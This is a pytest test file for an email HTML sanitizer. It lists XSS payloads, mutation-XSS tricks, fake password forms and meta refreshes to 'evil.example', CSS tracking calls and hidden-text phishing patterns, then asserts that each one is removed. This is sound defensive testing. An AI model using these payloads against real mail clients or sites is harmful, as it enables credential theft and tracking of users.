"""Hostile mail: what is left of it when it is shown."""

from __future__ import annotations

import time

import pytest

from partnerhub.web.mail_html import as_text, shown

PIXEL = "data:image/png;base64,iVBORw0KGgo="


@pytest.mark.fault("F96", "F97")
@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        '<base href="https://evil.example/">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example) }</style>',
        '<p style="background:url(https://evil.example/t.gif)">x</p>',
        '<p style="position:fixed;top:0;left:0">x</p>',
        '<object data="https://evil.example"></object>',
        '<div onclick="alert(1)" onmouseover="alert(1)">x</div>',
        '<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>',
    ],
)
def test_nothing_of_it_runs_fetches_or_asks(hostile):
    said = shown(f"<p>Hello</p>{hostile}<p>Bye</p>").html.lower().replace('title="', "")
    for word in (
        "<script", "onerror", "onload", "onclick", "http-equiv", "<form", "<input", "<iframe", "<link",
        "<base", "<style", "<svg", "url(", "position", "<object", 'href="javascript', 'href="data', "srcdoc",
        "background=",
    ):  # fmt: skip
        assert word not in said
    assert "hello" in said


@pytest.mark.fault("F97")
def test_remote_images_are_withheld_and_counted_and_inline_ones_stay():
    found = shown(
        f'<img src="https://t.example/1.gif"><img src="cid:x" srcset="https://t.example/2 2x"><img src="{PIXEL}">'
    )
    assert found.withheld == 2
    assert found.html.count("<img") == 1
    assert PIXEL in found.html
    assert "srcset" not in found.html


def test_links_say_where_they_go_and_tell_nothing_there():
    assert shown('<a href="https://acme.example/x" target=_top>Here</a>').html == (
        '<a href="https://acme.example/x" title="https://acme.example/x" rel="noopener noreferrer nofollow">Here</a>'
    )


@pytest.mark.fault("F98")
@pytest.mark.parametrize(
    "hidden",
    [
        '<p style="display:none">Pay now</p>',
        '<p style="DISPLAY : none !important">Pay now</p>',
        "<p hidden>Pay now</p>",
        '<p style="visibility:hidden">Pay now</p>',
        '<p style="opacity:0">Pay now</p>',
        '<p style="font-size:1px">Pay now</p>',
        '<p style="font-size:0">Pay <b>now</b></p>',
        '<p style="color:#fff">Pay now</p>',
        '<p style="color:white">Pay now</p>',
        '<div style="background:#123456"><p style="color:rgb(18, 52, 86)">Pay now</p></div>',
        '<font color="#FFFFFF">Pay now</font>',
        '<div style="max-height:0;overflow:hidden">Pay now</div>',
        "<style>.pre { display: none }</style><p class=pre>Pay now</p>",
    ],
)
def test_what_a_reader_would_not_see_is_left_out(hidden):
    assert "now" not in shown(f"<p>Hello</p>{hidden}").html


def test_text_in_white_on_a_color_and_rules_for_paper_stay():
    sheet = "<style>@media print { .v { display: none } }</style>"
    said = shown(f'{sheet}<div style="background:#000;color:#fff">Read</div><p class=v>this</p>').html
    assert "Read" in said
    assert "this" in said


def test_characters_that_take_no_room_are_left_out_and_joiners_of_scripts_stay():
    assert "paypal" in shown("<p>pay\u200b\u2060\u00adpal\u202e</p>").html
    assert "می\u200cخواهم" in shown("<p>می\u200cخواهم</p>").html


def test_twenty_thousand_nested_elements_are_shown_as_text_and_cost_no_time():
    began = time.process_time()
    found = shown("<div>" * 20_000 + "<script>alert(1)</script>Deep" + "</div>" * 20_000)
    assert found.html == '<pre class="plain">Deep</pre>'
    assert time.process_time() - began < 2


def test_plain_text_stays_text():
    assert as_text("<b>1 < 2</b>") == '<pre class="plain">&lt;b&gt;1 &lt; 2&lt;/b&gt;</pre>'
